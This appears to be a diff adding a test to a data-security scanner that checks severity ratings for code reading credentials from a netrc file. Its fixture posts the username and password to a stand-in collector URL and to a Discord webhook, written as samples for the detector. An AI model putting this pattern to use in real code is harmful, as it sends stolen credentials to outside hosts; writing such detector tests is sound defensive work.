@@ -229,6 +229,34 @@ def test_command_outputs_and_credential_apis_are_sources(code: str, label: str) 
     assert [p.sources for p in _points(source)] == [(label,)]
 
 
+@pytest.mark.parametrize(("destination", "expected"), [
+    ("self.host", "medium"),  # a client logging in to the host it looked the credential up for
+    ("'https://collector.example.net/c'", "critical"),  # a literal endpoint of its own
+    ("'https://discord.com/api/webhooks/1/x'", "critical"),  # a chat webhook
+])
+def test_credentials_looked_up_by_api_for_a_given_host(destination: str, expected: str) -> None:
+    from datasec_scan.config import Config
+    from datasec_scan.engine import scan_file
+    from datasec_scan.plugins import discover
+    source = textwrap.dedent(f"""
+        import netrc, requests
+
+        class Client:
+            def __init__(self, host):
+                self.host = host
+
+            def login(self, user, password):
+                requests.post({destination}, data={{"user": user, "password": password}})
+
+        def main(host):
+            user, _, password = netrc.netrc().authenticators(host)
+            Client(host).login(user, password)
+        """)
+    pack = discover().select(["DS301"])
+    found = [f.severity.label for f in scan_file("client.py", source.encode(), pack, Config()).findings]
+    assert found == [expected]
+
+
 @pytest.mark.parametrize("code", ["subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
                                   "subprocess.getoutput('date')", "{k: os.environ.get(k) for k in ('CI', 'TERM')}"])
 def test_ordinary_command_outputs_are_not_sensitive(code: str) -> None:
